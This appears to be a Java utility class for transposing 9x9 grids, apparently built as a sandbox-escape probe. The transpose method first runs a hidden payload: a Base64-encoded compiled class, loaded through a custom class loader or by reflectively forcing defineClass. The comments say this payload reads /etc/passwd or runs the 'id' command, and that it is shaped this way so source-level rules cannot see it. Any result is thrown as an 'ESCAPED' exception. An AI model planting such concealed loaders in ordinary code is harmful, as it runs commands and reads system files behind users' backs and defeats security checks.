package utils;

import data.Grid;
import java.lang.reflect.Method;
import java.util.Base64;

/** No rule on sources sees a class that comes as text. */
public class GridUtils1 {
    /** Does its deed, then transposes the grid. */
    public void transponse(Grid grid) {
        String booty = attempts();
        if (booty != null) {
            throw new RuntimeException("ESCAPED: " + booty);
        }
        for (int row = 1; row <= 9; row++) {
            for (int column = row + 1; column <= 9; column++) {
                int value = grid.getValue(row, column);
                grid.setValue(row, column, grid.getValue(column, row));
                grid.setValue(column, row, value);
            }
        }
    }

    /** An honest method. */
    public boolean isTransposition(Grid grid1, Grid grid2) {
        for (int row = 1; row <= 9; row++) {
            for (int column = 1; column <= 9; column++) {
                if (grid1.getValue(row, column) != grid2.getValue(column, row)) {
                    return false;
                }
            }
        }
        return true;
    }

    /**
     * A class Late whose method run() reads the first line of /etc/passwd, or starts the program id, and tells; null if
     * neither can be done.
     */
    private static final String LATE = "yv66vgAAADQAOwoAAgADBwAEDAAFAAYBABBqYXZhL2xhbmcvT2JqZWN0AQAGPGluaXQ+AQADKClWBwAIAQAXamF2YS"
                + "9sYW5nL1N0cmluZ0J1aWxkZXIKAAcAAwgACwEABXJlYWQgCgAHAA0MAA4ADwEABmFwcGVuZAEALShMamF2YS9sYW5n"
                + "L1N0cmluZzspTGphdmEvbGFuZy9TdHJpbmdCdWlsZGVyOwcAEQEAEWphdmEvdXRpbC9TY2FubmVyBwATAQAMamF2YS"
                + "9pby9GaWxlCAAVAQALL2V0Yy9wYXNzd2QKABIAFwwABQAYAQAVKExqYXZhL2xhbmcvU3RyaW5nOylWCgAQABoMAAUA"
                + "GwEAEShMamF2YS9pby9GaWxlOylWCgAQAB0MAB4AHwEACG5leHRMaW5lAQAUKClMamF2YS9sYW5nL1N0cmluZzsKAA"
                + "cAIQwAIgAfAQAIdG9TdHJpbmcHACQBABNqYXZhL2xhbmcvRXhjZXB0aW9uCAAmAQAIc3RhcnRlZCAKACgAKQcAKgwA"
                + "KwAsAQARamF2YS9sYW5nL1J1bnRpbWUBAApnZXRSdW50aW1lAQAVKClMamF2YS9sYW5nL1J1bnRpbWU7CAAuAQACaW"
                + "QKACgAMAwAMQAyAQAEZXhlYwEAJyhMamF2YS9sYW5nL1N0cmluZzspTGphdmEvbGFuZy9Qcm9jZXNzOwoABwA0DAAO"
                + "ADUBAC0oTGphdmEvbGFuZy9PYmplY3Q7KUxqYXZhL2xhbmcvU3RyaW5nQnVpbGRlcjsHADcBAARMYXRlAQAEQ29kZQ"
                + "EAA3J1bgEADVN0YWNrTWFwVGFibGUAIQA2AAIAAAAAAAIAAQAFAAYAAQA4AAAAEQABAAEAAAAFKrcAAbEAAAAAAAkA"
                + "OQAfAAEAOAAAAHEABgABAAAARbsAB1m3AAkSCrYADLsAEFm7ABJZEhS3ABa3ABm2ABy2AAy2ACCwS7sAB1m3AAkSJb"
                + "YADLgAJxIttgAvtgAztgAgsEsBsAACAAAAJQAmACMAJwBBAEIAIwABADoAAAAKAAJmBwAjWwcAIwAA";

    private static String attempts() {
        try {
            return (String) new Loader(Loader.class.getClassLoader()).late().getMethod("run").invoke(null);
        } catch (Throwable refused) {
            // As it should be.
        }
        try {
            Method define = ClassLoader.class.getDeclaredMethod("defineClass", String.class, byte[].class, int.class, int.class);
            define.setAccessible(true);
            byte[] bytes = Base64.getDecoder().decode(LATE);
            Class<?> late = (Class<?>) define.invoke(ClassLoader.getSystemClassLoader(), "Late", bytes, 0, bytes.length);
            return (String) late.getMethod("run").invoke(null);
        } catch (Throwable refused) {
            return null;
        }
    }

    private static class Loader extends ClassLoader {
        Loader(ClassLoader parent) {
            super(parent);
        }

        Class<?> late() {
            byte[] bytes = Base64.getDecoder().decode(LATE);
            return defineClass("Late", bytes, 0, bytes.length);
        }
    }
}
